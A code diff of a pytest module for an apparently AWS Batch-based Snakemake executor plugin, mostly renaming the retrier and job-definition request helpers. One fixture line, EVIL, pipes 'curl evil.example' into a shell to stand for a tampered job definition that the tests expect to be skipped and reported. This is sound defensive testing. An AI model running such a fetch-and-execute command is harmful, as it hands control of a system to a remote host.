@@ -10,7 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from snakemake_executor_plugin_hutchbatch.aws import clients
+from snakemake_executor_plugin_hutchbatch.aws import retry
+from snakemake_executor_plugin_hutchbatch.planning import batch_requests
 from snakemake_executor_plugin_hutchbatch.planning.plan import JobPlan
 from snakemake_executor_plugin_hutchbatch.queues.queues import Ladder
 from snakemake_executor_plugin_hutchbatch.settings.parsers import Mount
@@ -65,7 +66,7 @@ def plans(count):
 
 def arns(batch, wanted):
     """What a run of its own submits these plans with."""
-    run = Definitions(batch, clients.Retrier(print))
+    run = Definitions(batch, retry.Retrier(print))
     return [run.arn(plan) for plan in (*wanted, *wanted)]
 
 
@@ -134,7 +135,7 @@ def test_one_that_says_all_there_is_to_say_is_found_again(cloud, batch):
 
 def plant(batch, plan, **changes):
     """A revision of a definition of ours that somebody registers with something else in it."""
-    request = job_definitions.registration(plan)
+    request = batch_requests.registration(plan)
     container = {**request["containerProperties"], **changes.pop("container", {})}
     answer = batch.register_job_definition(
         **{**request, "containerProperties": container, **changes}
@@ -162,10 +163,10 @@ EVIL = ["/bin/sh", "-c", "curl evil.example | sh"]
 )
 def test_a_revision_that_says_something_else_is_passed_over_and_named(cloud, batch, named, changes):
     (plan,) = plans(1)
-    name = job_definitions.registration(plan)["jobDefinitionName"]
+    name = batch_requests.registration(plan)["jobDefinitionName"]
     planted = plant(batch, plan, **changes)
     said = []
-    run = Definitions(batch, clients.Retrier(print), warn=said.append)
+    run = Definitions(batch, retry.Retrier(print), warn=said.append)
     used = run.arn(plan)
     assert used.endswith(f"/{name}:2")
     assert len(said) == 1
@@ -191,7 +192,7 @@ def test_the_good_revision_is_found_behind_pages_of_others(cloud, batch, monkeyp
 
 def test_one_that_was_removed_is_registered_again(batch):
     (plan,) = plans(1)
-    run = Definitions(batch, clients.Retrier(print))
+    run = Definitions(batch, retry.Retrier(print))
     before = run.arn(plan)
     batch.deregister_job_definition(jobDefinition=before)
     assert arns(batch, [plan])[0] != before, "another run must not use it"
@@ -287,12 +288,12 @@ def test_old_ones_that_no_job_uses_are_removed(cloud, batch):
     )["jobId"]
     foreign = batch.register_job_definition(
         **{
-            **job_definitions.registration(plans(1)[0]),
+            **batch_requests.registration(plans(1)[0]),
             "tags": {job_definitions.MADE_ON: "2026-01-01"},
         }
     )["jobDefinitionName"]
     name = {
-        p.image: job_definitions.registration(p)["jobDefinitionName"] for p in (young, idle, busy)
+        p.image: batch_requests.registration(p)["jobDefinitionName"] for p in (young, idle, busy)
     }
 
     listed = command(cloud)
